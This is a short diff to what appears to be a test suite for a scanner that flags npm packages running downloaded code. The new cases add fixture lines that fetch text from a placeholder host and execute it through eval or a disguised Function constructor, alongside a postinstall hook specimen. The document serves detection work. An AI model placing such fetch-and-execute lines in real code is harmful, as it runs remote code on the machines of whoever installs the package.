@@ -5,6 +5,11 @@ const hook = { name: 'specimen', version: '1.0.0', scripts: { postinstall: 'node
 
 examine(runsDownloadedCode, {
   speaks: [
+    { when: 'eval itself is the callback', files: { 'index.js': `fetch('https://a.invalid').then(r => r.text()).then(eval)` } },
+    {
+      when: 'Function hides behind its own constructor',
+      files: { 'index.js': `require('axios').get('https://a.invalid').then(r => new Function.constructor('require', r.data)(require))` },
+    },
     {
       when: 'an answer is collected and evaluated',
       files: {
